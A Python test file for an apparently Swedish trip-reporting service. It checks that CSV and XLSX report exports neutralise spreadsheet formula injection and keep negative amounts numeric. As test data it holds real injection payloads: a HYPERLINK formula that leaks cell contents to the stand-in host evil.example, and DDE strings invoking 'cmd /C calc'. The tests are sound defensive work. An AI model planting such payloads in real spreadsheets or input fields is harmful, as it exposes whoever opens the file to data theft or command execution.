"""Formula (CSV) injection: a text cell starting with = + - @, a tab or a carriage return
is written as text a spreadsheet does not evaluate, in every CSV and XLSX the reports write
(reports/sheet.py, through samfard.spreadsheet); amounts and counts stay numbers, negative
ones too. The probe of the monthly report: a KPI comment `=HYPERLINK(...)` came back as a
formula element in the XLSX and as a cell starting with "=" in the CSV."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from settled_rows import Trip, settle
from sqlalchemy.orm import Session

from helpers import NOW, auth, token_for
from samfard.access.permissions import Role
from samfard.reports.exports import (
    PenaltyLine,
    cost_statement,
    invoice_basis,
    report_csv,
    report_sheets,
)
from samfard.reports.kpi import Kpi, TripRecord, aggregate
from samfard.reports.monthly import MonthlyReportData, build_monthly_report
from samfard.reports.quality_export import quality_sheets
from samfard.reports.sheet import Sheet, to_csv, to_xlsx
from samfard.spreadsheet import spreadsheet_text

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
PAYLOADS = (
    HYPERLINK,
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"-?[0-9]+([.,][0-9]+)?")
# A carriage return inside a field: csv writes it unquoted with "\n" line endings, and a
# spreadsheet would start a new row there, with the formula first in a cell of its own.
SPLIT = "Bra månad\r=1+1"


def quoted(payload: str) -> str:
    """How a formula text reads back: a quote first, a carriage return as a line feed."""
    return "'" + payload.replace("\r", "\n")


def _inert(value: object) -> None:
    """A cell as read back: no text starting with a formula character, but a number."""
    if isinstance(value, str) and not NUMBER.fullmatch(value):
        assert not value.startswith(FORMULA_START), repr(value)


def _book(body: bytes) -> Any:
    """The workbook, after checking that no sheet of it holds a formula element."""
    with zipfile.ZipFile(BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    return load_workbook(BytesIO(body))


def _text_cells_inert(book: Any) -> None:
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", cell.coordinate
                _inert(cell.value)


def test_the_rule_quotes_formula_starts_and_leaves_plain_numbers() -> None:
    for payload in PAYLOADS:
        assert spreadsheet_text(payload) == quoted(payload)
    assert spreadsheet_text(SPLIT) == "Bra månad\n=1+1"
    assert spreadsheet_text("\n=1+1") == "'\n=1+1"
    for number in ("-1234.50", "-12,50", "-7", "+46", "0.5"):
        assert spreadsheet_text(number) == number
    for text in ("Kostnad per resa", "'=1", "", "1-2", "a=b"):
        assert spreadsheet_text(text) == text
    for text in ("-1-2", "-1.5.5", "-1e3", "-٣"):
        assert spreadsheet_text(text) == "'" + text


SHEET = Sheet(
    "=Blad",
    ("text", "amount_kr", "count", "ratio", "day"),
    tuple((p, -1250, -3, Decimal("-1.5"), date(2026, 10, 5)) for p in (*PAYLOADS, SPLIT)),
    frozenset({1}),
)


def test_csv_writes_formula_text_quoted_and_negative_numbers_as_numbers() -> None:
    rows = list(csv.reader(StringIO(to_csv(SHEET))))
    assert rows[0] == list(SHEET.header)
    assert [r[0] for r in rows[1:]] == [*map(quoted, PAYLOADS), "Bra månad\n=1+1"]
    for row in rows[1:]:
        for value in row:
            _inert(value)
        assert row[1:4] == ["-12.50", "-3", "-1.5"]
        assert Decimal(row[1]) == Decimal("-12.50")


def test_xlsx_writes_formula_text_as_strings_and_negative_numbers_as_numbers() -> None:
    book = _book(to_xlsx([SHEET]))
    _text_cells_inert(book)
    ws = book.worksheets[0]
    cells = list(ws.iter_rows(min_row=2))
    assert [row[0].value for row in cells] == [*map(quoted, PAYLOADS), "Bra månad\n=1+1"]
    for row in cells:
        assert [c.value for c in row[1:4]] == [-12.5, -3, -1.5]
        assert {c.data_type for c in row[1:4]} == {"n"}


def _records() -> list[TripRecord]:
    """November 2026 costs less than November 2025 (change -300 kr); one trip's allocated
    cost is above its standalone cost (a negative saving); trip ids are formula text."""

    def trip(trip_id: str, day: date, allocated: int, standalone: int) -> TripRecord:
        return TripRecord(
            trip_id=trip_id,
            principal="23",
            service="sjukresa",
            day=day,
            passengers=1,
            run_passengers=1,
            direct_km=Decimal(10),
            standalone=standalone,
            allocated=allocated,
            fee=20000,
        )

    last, now = date(2025, 11, 12), date(2026, 11, 10)
    return [
        trip("p1", last, 80000, 80000),
        *(trip(p, now, 12500, 10000) for p in PAYLOADS[:4]),
    ]


@pytest.fixture
def probed() -> MonthlyReportData:
    return build_monthly_report(
        aggregate(_records()),
        year=2026,
        month=11,
        scope="-Region",
        principal="23",
        principal_names={"23": "@Region Jämtland Härjedalen"},
        comments={Kpi.COST_PER_TRIP.value: HYPERLINK, Kpi.COST_PER_KM.value: SPLIT},
    )


def test_the_monthly_report_csv_quotes_a_formula_comment_and_a_fall_in_cost_stays_a_number(
    probed: MonthlyReportData,
) -> None:
    rows = list(csv.DictReader(StringIO(report_csv(probed)), delimiter=";"))
    for row in rows:
        for value in row.values():
            _inert(value)
    assert all(None not in (*row, *row.values()) for row in rows), "a row split in two"
    kpis = {r["rad"].split(" (")[0]: r["kommentar"] for r in rows if r["tabell"] == "Nyckeltal"}
    assert kpis["Kostnad per resa"] == "'" + HYPERLINK
    assert kpis["Kostnad per km"] == "Bra månad\n=1+1"
    assert {r["huvudman"] for r in rows} == {"'-Region"}
    total = next(r for r in rows if r["tabell"] == "Månaden" and r["rad"] == "Total kostnad")
    assert (total["utfall"], total["i_fjol"], total["förändring"]) == (
        "500,00",
        "800,00",
        "-300,00",
    )


def test_the_monthly_report_xlsx_has_no_formula_and_a_fall_in_cost_stays_a_number(
    probed: MonthlyReportData,
) -> None:
    book = _book(to_xlsx((*report_sheets(probed), *quality_sheets(probed))))
    _text_cells_inert(book)
    kpis = {row[0].value: row for row in book["Nyckeltal"].iter_rows(min_row=2)}
    comment = kpis[Kpi.COST_PER_TRIP.value][6]
    assert (comment.value, comment.data_type) == ("'" + HYPERLINK, "s")
    month = {row[0].value: row for row in book["Månaden"].iter_rows(min_row=2)}
    change = month["Total kostnad"][3]
    assert (change.value, change.data_type) == (-300, "n")
    assert book["Huvudmän"]["B2"].value == "'@Region Jämtland Härjedalen"


def test_the_cost_statement_quotes_formula_trip_ids_and_keeps_a_negative_saving() -> None:
    sheet = cost_statement("23", 2026, 11, _records())
    rows = list(csv.reader(StringIO(to_csv(sheet))))
    for row in rows:
        for value in row:
            _inert(value)
    by_id = {r[0]: r for r in rows[1:]}
    assert set(by_id) == {*map(quoted, PAYLOADS[:4]), "TOTAL"}
    assert by_id["'" + HYPERLINK][7] == "-25.00"  # saving: standalone 100 - allocated 125 kr
    book = _book(to_xlsx([sheet]))
    _text_cells_inert(book)
    saving = next(r for r in book.worksheets[0].iter_rows(min_row=2) if r[0].value == "TOTAL")[7]
    assert (saving.value, saving.data_type) == (-100, "n")


def test_the_invoice_basis_quotes_formula_penalty_text_and_keeps_the_penalty_negative() -> None:
    penalties = [PenaltyLine(p, date(2026, 11, 3), "@JH-TAXI", "-late", 5000) for p in PAYLOADS]
    sheet = invoice_basis("=Taxi", 2026, 11, [], penalties)
    rows = list(csv.reader(StringIO(to_csv(sheet))))
    for row in rows:
        for value in row:
            _inert(value)
    vite = [r for r in rows if r[0].startswith("VITE")]
    assert [(r[2], r[3], r[-1]) for r in vite] == [("'@JH-TAXI", "'-late", "-50.00")] * 6
    assert rows[-1][0] == "ATT BETALA" and rows[-1][-1] == "-300.00"
    book = _book(to_xlsx([sheet]))
    _text_cells_inert(book)
    last = list(book.worksheets[0].iter_rows(min_row=2))[-1]
    assert (last[-1].value, last[-1].data_type) == (-300, "n")


def test_a_stored_formula_comment_comes_back_as_text_from_the_api_and_the_page(
    app_client: TestClient, session: Session
) -> None:
    """The probe: a principal administrator stores the comment through the API; the page's
    XLSX and CSV and the API's CSV write it as text, never as a formula."""
    settle(session, [Trip(f"x{i}", "23", date(2026, 10, 5), 50000) for i in range(2)])
    admin = auth(token_for(session, Role.PRINCIPAL_ADMIN, now=NOW, principals=["23"]))
    body = {"principal": "23", "month": "2026-10", "kpi": "cost_per_trip", "comment": HYPERLINK}
    stored = app_client.put("/api/v1/reports/comments", json=body, headers=admin)
    assert stored.status_code == 200, stored.text
    query = {"manad": "2026-10", "huvudman": "23"}
    xlsx = app_client.get("/uppfoljning/manadsrapport.xlsx", params=query, headers=admin)
    assert xlsx.status_code == 200, xlsx.text
    book = _book(xlsx.content)
    _text_cells_inert(book)
    kpis = {row[0].value: row for row in book["Nyckeltal"].iter_rows(min_row=2)}
    assert kpis["cost_per_trip"][6].value == "'" + HYPERLINK
    assert kpis["cost_per_trip"][3].value == 500
    for url, params in (
        ("/uppfoljning/manadsrapport.csv", query),
        ("/api/v1/reports/monthly", {"month": "2026-10", "principal": "23", "format": "csv"}),
    ):
        answer = app_client.get(url, params=params, headers=admin)
        assert answer.status_code == 200, answer.text
        rows = list(csv.DictReader(StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
        for row in rows:
            for value in row.values():
                _inert(value)
        line = next(
            r for r in rows if r["tabell"] == "Nyckeltal" and r["rad"] == "Kostnad per resa"
        )
        assert (line["kommentar"], line["utfall"]) == ("'" + HYPERLINK, "500,00"), url
